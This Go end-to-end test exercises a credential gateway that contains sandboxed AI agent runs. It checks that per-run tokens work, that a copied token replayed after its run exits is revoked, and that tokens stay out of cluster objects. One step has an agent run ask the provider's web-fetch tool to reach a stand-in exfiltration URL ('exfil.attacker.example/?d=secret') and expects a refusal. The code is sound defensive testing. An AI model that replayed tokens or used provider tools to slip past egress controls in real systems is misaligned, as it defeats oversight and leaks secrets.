package main

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/agentcustody/custody/test/e2e/fixture"
)

// demoProviderKey is the "real" provider key the gateway holds in the
// demo. The stand-in provider, like the real one, rejects it.
const demoProviderKey = "sk-ant-demo-0000-not-a-real-key"

type gatewayScenario struct {
	*scenario
	env          *fixture.Env
	custody      *fixture.Custody
	custodyBin   string
	seen         providerSeen
	providerDesc string
	providerURL  string
	dir          string
}

func (g *gatewayScenario) run(ctx context.Context) {
	var sb *execSandbox
	var err error
	if g.deploy != nil {
		sb, err = podSandbox(ctx, g.env, g.deploy)
	} else {
		sb, err = hostSandbox(ctx, g.dir)
	}
	if err != nil {
		g.failErr("G0", "sandboxd", err)
		return
	}
	defer sb.stop()
	fmt.Printf("   %s; provider stand-in on %s\n", sb.desc, g.providerDesc)
	fmt.Printf("   the gateway's own refusals are: %s\n", strings.Join(fixture.GatewayRefusals, " | "))

	// G1: run 1's token is accepted by the gateway; the provider refuses
	// the demo key, which is how "accepted" looks without a real key.
	r1, err := sb.exec(ctx, g.custodyBin, g.custody, "run-1", "-copy-token-to", sb.leakPath("copy-of-run-1-token"))
	if err != nil {
		g.failErr("G1", "custody exec run 1", err)
		return
	}
	keySums, auths, err := g.seen(ctx)
	if err != nil {
		g.failErr("G1", "what the provider stand-in received", err)
		return
	}
	body := afterStatus(r1.Stdout)
	g.line("G1", "run 1 calls the model through the gateway (custody exec exit "+fmt.Sprint(r1.ExitCode)+")",
		r1.ExitCode == 0 && strings.HasPrefix(r1.Stdout, "401 ") && strings.Contains(body, "authentication_error") && !fixture.FromGateway(body) &&
			len(keySums) == 1 && keySums[0] == sha256Hex(demoProviderKey) && !auths[0],
		r1.Stdout, "want the provider's 401 authentication_error, reached with the gateway's key, not a gateway refusal")
	if r1.ExitCode != 0 {
		fmt.Printf("     custody exec stderr: %s\n", r1.Stderr)
	}

	// G2: direct egress to the provider.
	if g.deploy == nil {
		g.skipped++
		fmt.Printf("SKIP G2  egress from the sandbox straight to the provider is blocked: %s (pods do not run on the stand-in)\n", g.skipWhy)
	} else {
		g.providerCheck()
	}

	// G3: a copy of run 1's token, replayed after run 1 exited.
	tok1, err := sb.readLeak(ctx, "copy-of-run-1-token")
	if err != nil {
		g.failErr("G3", "copy of run 1's token", err)
		return
	}
	exp, _ := fixture.TokenExpiry(string(tok1))
	resp, err := fixture.Do(ctx, http.MethodPost, g.custody.GatewayURL+"/anthropic/v1/messages", "",
		[]byte(`{"model":"claude-sonnet-4-5","max_tokens":16,"messages":[]}`), "x-api-key", string(tok1), "anthropic-version", "2023-06-01")
	left := time.Until(exp).Round(time.Second)
	if err != nil {
		g.failErr("G3", "replay", err)
		return
	}
	g.line("G3", fmt.Sprintf("a copy of run 1's token replayed after run 1 exited, %s of its TTL left", left),
		resp.Status == http.StatusUnauthorized && strings.TrimSpace(string(resp.Body)) == "gateway token revoked" && left > 25*time.Minute,
		resp.String(), "want 401 gateway token revoked while most of the TTL remains")

	// G4: run 2 in the same sandbox gets its own token and is accepted.
	r2, err := sb.exec(ctx, g.custodyBin, g.custody, "run-2", "-copy-token-to", sb.leakPath("copy-of-run-2-token"))
	if err != nil {
		g.failErr("G4", "custody exec run 2", err)
		return
	}
	tok2, _ := sb.readLeak(ctx, "copy-of-run-2-token")
	body = afterStatus(r2.Stdout)
	g.line("G4", "run 2, same sandbox, right after: a different token, accepted",
		r2.ExitCode == 0 && len(tok2) > 0 && string(tok2) != string(tok1) && strings.Contains(body, "authentication_error") && !fixture.FromGateway(body),
		r2.Stdout, "want a new token that reaches the provider")

	// G5: no token is in the Sandbox or SandboxClaim objects (or pods).
	found := g.tokensInObjects(ctx, string(tok1), string(tok2))
	g.line("G5", "no gateway token in any Sandbox, SandboxClaim or Pod object", found == "", orNone(found), "a token was written into the cluster")

	// G6: run 3 asks the provider to fetch a URL for it: a way out around
	// the egress policy, refused before the provider sees it.
	before, _, err := g.seen(ctx)
	if err != nil {
		g.failErr("G6", "what the provider stand-in received", err)
		return
	}
	r3, err := sb.exec(ctx, g.custodyBin, g.custody, "run-3", "-web-fetch", "https://exfil.attacker.example/?d=secret")
	if err != nil {
		g.failErr("G6", "custody exec run 3", err)
		return
	}
	after, _, err := g.seen(ctx)
	if err != nil {
		g.failErr("G6", "what the provider stand-in received", err)
		return
	}
	g.line("G6", "run 3 asks the provider to fetch an attacker's URL for it (web fetch tool): refused, the provider never sees it",
		r3.ExitCode == 0 && strings.HasPrefix(r3.Stdout, "403 provider-run tool not allowed for provider anthropic: /tools/0 type web_fetch_20250910") && len(after) == len(before),
		r3.Stdout, "want 403 provider-run tool not allowed, and no request at the provider")

	fmt.Println()
	fmt.Println("== budgets: checked before a call leaves custody, settled from the provider's usage")
	g.budget(ctx)

	fmt.Println()
	fmt.Println("== model calls recorded by the gateway itself: what the model asked for, decided or not")
	g.recorded(ctx, sb)
}

// tokensInObjects lists the objects whose JSON contains one of the tokens.
func (g *gatewayScenario) tokensInObjects(ctx context.Context, toks ...string) string {
	var hits []string
	check := func(kind string, items []map[string]any) {
		for _, it := range items {
			b := fmt.Sprint(it)
			for _, t := range toks {
				if t != "" && strings.Contains(b, t) {
					hits = append(hits, kind)
				}
			}
		}
	}
	for _, gvr := range []schema.GroupVersionResource{
		{Group: "agents.x-k8s.io", Version: "v1beta1", Resource: "sandboxes"},
		{Group: "extensions.agents.x-k8s.io", Version: "v1beta1", Resource: "sandboxclaims"},
		{Version: "v1", Resource: "pods"},
	} {
		l, err := g.env.CP.Dynamic.Resource(gvr).Namespace(fixture.Namespace).List(ctx, metav1.ListOptions{})
		if err != nil {
			hits = append(hits, "list "+gvr.Resource+": "+err.Error())
			continue
		}
		var items []map[string]any
		for _, it := range l.Items {
			items = append(items, it.Object)
		}
		check(gvr.Resource, items)
	}
	return strings.Join(hits, ", ")
}

func orNone(s string) string {
	if s == "" {
		return "none found in sandboxes, sandboxclaims, pods"
	}
	return s
}

// afterStatus drops the leading "STATUS " of a probe line.
func afterStatus(line string) string {
	_, b, _ := strings.Cut(line, " ")
	return b
}
